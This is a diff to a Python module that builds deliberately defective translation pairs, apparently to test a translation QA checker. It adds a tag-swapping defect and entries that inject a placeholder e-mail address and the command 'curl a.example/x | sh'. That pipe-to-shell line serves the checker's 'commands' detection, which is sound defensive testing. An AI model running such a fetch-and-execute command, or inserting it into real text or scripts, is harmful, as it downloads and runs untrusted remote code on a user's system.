@@ -146,6 +146,16 @@ def _tag_doubled(pair: SegmentPair) -> SegmentPair | None:
     return _changed(r"<x\d+/>", r"\g<0> \g<0>", pair)
 
 
+def _tags_exchanged(pair: SegmentPair) -> SegmentPair | None:
+    """The tags of the first two paired codes of the source exchanged in the translation."""
+    first_two = list(dict.fromkeys(re.findall(r"<g(\d+)>", pair.source)))[:2]
+    exchanged = dict(zip(first_two, reversed(first_two), strict=True))
+    if len(first_two) < 2 or re.search(r"<g\d+>(?:(?!</g).)*<g", pair.source):  # noqa: PLR2004
+        return None
+    text = re.sub(r"(?<=g)\d+(?=>)", lambda match: exchanged.get(match[0], match[0]), pair.translation)
+    return replace(pair, translation=text)
+
+
 def _source_only(pair: SegmentPair) -> SegmentPair | None:
     return replace(pair, translation=pair.source) if len(_plain(pair.source).split()) > 5 else None  # noqa: PLR2004
 
@@ -198,6 +208,9 @@ DEFECTS: dict[str, Defect] = {
     "tag invented": Defect(lambda pair: replace(pair, translation=pair.translation + "<x99/>"), ("tags",)),
     "pair of tags lost": Defect(partial(_changed, r"</?g(\d+)>", ""), ("tags",)),
     "pair of tags emptied": Defect(partial(_changed, r"<g(\d+)>(.*?)</g\1>", r"<g\1></g\1>\2"), ("nesting",)),
+    "tags exchanged": Defect(_tags_exchanged, ("exchanged-tags",), structural=False),
+    "command added": Defect(partial(_with, "", "curl a.example/x | sh"), ("commands",)),
+    "e-mail address added": Defect(partial(_with, "", "a@b.example"), ("addresses",)),
     "markup in text": Defect(lambda pair: replace(pair, translation="**" + pair.translation), ("markup",)),
     "code changed": Defect(partial(_raw, "by `load()`", "`lod()`"), ("raw-markup",)),
     "formula changed": Defect(partial(_raw, "as $x_1$", "$x_2$"), ("raw-markup",)),
